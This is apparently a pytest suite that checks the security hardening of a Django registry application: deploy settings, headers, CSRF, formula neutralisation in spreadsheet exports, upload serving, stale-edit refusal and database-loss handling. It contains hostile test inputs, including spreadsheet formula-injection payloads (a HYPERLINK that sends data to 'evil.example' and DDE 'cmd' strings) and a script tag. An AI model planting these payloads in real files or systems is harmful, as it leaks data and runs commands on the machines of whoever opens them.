"""Web hardening: the production profile passes `check --deploy`, secure headers and cookies, CSRF everywhere,
formulas neutralised in every spreadsheet export, uploaded files never served back, stale edits refused, and a lost
database connection reported as such."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.db import OperationalError
from django.test import Client
from django.urls import Resolver404, URLPattern, URLResolver, get_resolver, resolve
from hypothesis import given
from hypothesis import strategies as st

from cartel.engine.tabular import FORMULA_TRIGGERS, safe_cell

ROOT = Path(__file__).resolve().parents[2]
PRODUCTION_ENV = {
    "CARTEL_PRODUCTION": "1",
    "CARTEL_SECRET_KEY": "test-" + "k" * 60 + "-a-long-random-looking-production-secret",
    "CARTEL_ALLOWED_HOSTS": "cartel.example",
    "DJANGO_SETTINGS_MODULE": "cartel.settings",
}


def _production(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if k != "DJANGO_ALLOW_ASYNC_UNSAFE"}
    env = {**base, **PRODUCTION_ENV, "CARTEL_DB": str(tmp_path / "prod.sqlite3"),
           "CARTEL_DATA_DIR": str(tmp_path)}  # fmt: skip
    return subprocess.run([sys.executable, *args], env=env, cwd=ROOT, capture_output=True, text=True, timeout=120,
                          check=False)  # fmt: skip


def test_deploy_check_is_clean_and_production_cookies_are_secure(tmp_path: Path) -> None:
    check = _production(tmp_path, "-m", "django", "check", "--deploy", "--fail-level", "WARNING")
    assert check.returncode == 0, check.stdout + check.stderr
    assert "no issues" in check.stdout
    probe = _production(tmp_path, "-c", "import django, json; django.setup(); from django.conf import settings as s; "
                        "print(json.dumps({k: getattr(s, k) for k in ('DEBUG', 'SESSION_COOKIE_SECURE', "
                        "'CSRF_COOKIE_SECURE', 'SESSION_COOKIE_HTTPONLY', 'SECURE_SSL_REDIRECT', 'SECURE_HSTS_SECONDS', "
                        "'X_FRAME_OPTIONS', 'SESSION_COOKIE_NAME', 'CSRF_COOKIE_HTTPONLY')}))")  # fmt: skip
    values = json.loads(probe.stdout.strip().splitlines()[-1])
    assert values["DEBUG"] is False and values["SECURE_SSL_REDIRECT"] is True
    assert (
        values["SESSION_COOKIE_SECURE"] and values["CSRF_COOKIE_SECURE"] and values["SESSION_COOKIE_HTTPONLY"]
    )
    assert values["SESSION_COOKIE_NAME"].startswith("__Host-") and values["SECURE_HSTS_SECONDS"] >= 31536000
    assert values["X_FRAME_OPTIONS"] == "DENY" and values["CSRF_COOKIE_HTTPONLY"]
    refused = subprocess.run([sys.executable, "-c", "import django; django.setup()"], cwd=ROOT, capture_output=True,
                             text=True, timeout=60, check=False,
                             env={**os.environ, "CARTEL_PRODUCTION": "1", "CARTEL_SECRET_KEY": "",
                                  "DJANGO_SETTINGS_MODULE": "cartel.settings"})  # fmt: skip
    assert refused.returncode != 0 and "CARTEL_SECRET_KEY must be set" in refused.stderr


def test_security_headers_on_pages_and_api(client: Client, users: Any) -> None:
    for url in ("/login/", "/"):
        response = client.get(url, follow=True)
        policy = response["Content-Security-Policy"]
        for directive in ("default-src 'self'", "script-src 'self'", "style-src 'self'", "object-src 'none'",
                          "frame-ancestors 'none'", "base-uri 'none'", "form-action 'self'"):  # fmt: skip
            assert directive in policy
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
        assert response["X-Frame-Options"] == "DENY"
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Referrer-Policy"] == "same-origin"
        client.force_login(users["a-operator"])
    assert client.get("/api/persons")["X-Frame-Options"] == "DENY"


def test_csrf_is_enforced_on_forms_and_session_api_calls(users: Any) -> None:
    client = Client(enforce_csrf_checks=True)
    assert client.post("/login/", {"username": "a-operator", "password": "x" * 12}).status_code == 403
    client.force_login(users["a-lead"])
    assert client.post("/account/tokens/new/", {"label": "x"}).status_code == 403
    assert client.post("/logout/").status_code == 403
    api = client.post("/api/review/pairs/1/decision", {"decision": "accept"}, content_type="application/json")
    assert api.status_code in (401, 403)
    page = client.get("/account/")
    token = page.cookies["csrftoken"].value
    assert (
        client.post("/account/tokens/new/", {"label": "x", "csrfmiddlewaretoken": token}).status_code == 302
    )


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]  # fmt: skip


@given(st.text(max_size=30))
def test_safe_cell_never_leaves_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert cell == text or cell == "'" + text
    assert not str(cell).lstrip(" ").startswith(FORMULA_TRIGGERS)


def _patterns(resolver: URLResolver | None = None, prefix: str = "") -> Iterator[tuple[str, str]]:
    """(route, url name) of every URL pattern, routes joined through includes."""
    for entry in (resolver or get_resolver()).url_patterns:
        route = getattr(entry.pattern, "_route", None)
        if route is None:
            continue
        if isinstance(entry, URLResolver):
            yield from _patterns(entry, prefix + route)
        elif isinstance(entry, URLPattern):
            yield prefix + route, entry.name or ""


def _cells(response: Any) -> list[str] | None:
    body = b"".join(response) if response.streaming else response.content
    kind = response.get("Content-Type", "") + response.get("Content-Disposition", "")
    if body.startswith(b"PK\x03\x04") and ("sheet" in kind or ".xlsx" in kind):
        book = openpyxl.load_workbook(io.BytesIO(body), read_only=True)
        return [str(c) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for c in row if c]
    if "csv" in kind or ".tsv" in kind:
        text = body.decode("utf-8-sig", errors="replace")
        return [c for row in csv.reader(io.StringIO(text)) for c in row if c]
    return None


def test_every_spreadsheet_export_neutralises_formulas(users: Any, parties: Any) -> None:
    """Every URL that answers with CSV or XLSX, fed with hostile names and particulars, writes no live formula."""
    from cartel.registry.services import RecordData, source_list_create

    rows = [RecordData(external_id=f"F{i}", row_number=i + 2,
                       raw={"next of kin": f, "mail address": f, "father": f, "birth place": f},
                       fields={"surname": f, "given_name": f, "birth_place": f, "unit": f, "rank": f,
                               "service_number": f})
            for i, f in enumerate(FORMULAS)]  # fmt: skip
    lst = source_list_create(owner=parties["A"], kind="registry", name="=cmd list", rows=rows,
                             actor=users["a-operator"])  # fmt: skip
    person_ids = [str(r.person_id) for r in lst.records.all()]
    client = Client(raise_request_exception=False)
    client.force_login(users["a-lead"])
    exports, problems = 0, []
    for route, _name in _patterns():
        if "<" in route and not any(w in route for w in ("<int:person_id>", "<int:pk>")):
            continue
        for pid in person_ids[:1] if "<" in route else [""]:
            url = "/" + route.replace("<int:person_id>", pid).replace("<int:pk>", pid)
            cells = _cells(client.get(url))
            if cells is None:
                continue
            exports += 1
            problems += [f"{url}: {c!r}" for c in cells if c.lstrip(" ").startswith(FORMULA_TRIGGERS)]
            assert any(c.startswith("'=HYPERLINK") for c in cells), f"{url} did not export the test rows"
    assert exports >= 1, "no spreadsheet export was found"
    assert not problems, "\n".join(problems)


def test_uploaded_files_are_never_served_back(client: Client, users: Any, settings: Any) -> None:
    media = Path(settings.MEDIA_ROOT) / "imports"
    media.mkdir(parents=True)
    (media / "list.csv").write_text("id,surname\n1,=SECRETUPLOAD\n")
    (media / "page.html").write_text("<script>alert(1)</script>SECRETUPLOAD")
    client.force_login(users["a-operator"])
    for prefix in ("/files/", "/media/", "/static/../files/", "/imports/", "/static/", "/"):
        for name in ("imports/list.csv", "imports/page.html", "list.csv"):
            response = client.get(prefix + name)
            assert response.status_code == 404 or b"SECRETUPLOAD" not in response.content, prefix + name
    for path in ("/files/imports/list.csv", "/media/imports/list.csv"):
        with pytest.raises(Resolver404):
            resolve(path)
    assert not settings.MEDIA_URL or settings.MEDIA_URL in ("/", "")


def test_stale_edit_is_refused_with_a_clear_message(users: Any, parties: Any) -> None:
    """Two reviewers open the same pair; the second, stale decision is refused and the first one stands."""
    from cartel.registry.models import CandidatePair
    from cartel.registry.services import RecordData, source_list_create

    a, b = (source_list_create(owner=parties["A"], kind=kind, name=f"A {kind}", actor=users["a-operator"],
                               rows=[RecordData(external_id="1", row_number=2, raw={}, fields={"full_name": n})])
            for kind, n in (("registry", "Іван Коваленко"), ("requests", "Ivan Kovalenko")))  # fmt: skip
    pair = CandidatePair.objects.create(left=a.records.get(), right=b.records.get(), probability=0.8)
    first, second = Client(), Client()
    first.force_login(users["a-operator"])
    second.force_login(users["a-lead"])
    guard = [p.split('value="')[1].split('"')[0] for p in first.get("/registry/review/").content.decode()
             .split('name="_edit_guard"')[1:2]]  # fmt: skip
    assert guard, "the review form carries no edit guard"
    decided = first.post(
        f"/registry/review/{pair.pk}/decision/", {"decision": "accept", "_edit_guard": guard[0]}
    )
    assert decided.status_code == 302
    stale = second.post(
        f"/registry/review/{pair.pk}/decision/", {"decision": "reject", "_edit_guard": guard[0]}
    )
    assert stale.status_code == 409
    assert "changed by someone else since you opened it" in stale.content.decode()
    assert CandidatePair.objects.get(pk=pair.pk).decision == "accept"
    forged = second.post(
        f"/registry/review/{pair.pk}/decision/", {"decision": "reject", "_edit_guard": "x:y"}
    )
    assert forged.status_code == 409 and CandidatePair.objects.get(pk=pair.pk).decision == "accept"
    htmx = second.post(f"/registry/review/{pair.pk}/decision/", {"decision": "reject", "_edit_guard": guard[0]},
                       headers={"HX-Request": "true"})  # fmt: skip
    assert htmx.status_code == 200 and 'role="alert"' in htmx.content.decode()


def test_database_loss_during_a_request_is_reported(users: Any, monkeypatch: Any) -> None:
    """A dropped connection gives a 503 that says the database is unreachable, on pages and the API."""
    from django.db.backends.utils import CursorWrapper

    client = Client(raise_request_exception=False)
    client.force_login(users["a-operator"])
    assert client.get("/registry/").status_code == 200

    def lost(*args: Any, **kwargs: Any) -> Any:
        raise OperationalError("server closed the connection unexpectedly")

    with monkeypatch.context() as patch:
        patch.setattr(CursorWrapper, "execute", lost)
        patch.setattr(CursorWrapper, "executemany", lost)
        page = client.get("/registry/")
        assert page.status_code == 503 and page["Retry-After"] == "60"
        assert "database cannot be reached" in page.content.decode()
        api = client.get("/api/persons")
        assert api.status_code == 503 and "database cannot be reached" in api.json()["detail"]
        anonymous = Client(raise_request_exception=False).get("/login/")
        assert anonymous.status_code in (200, 503)
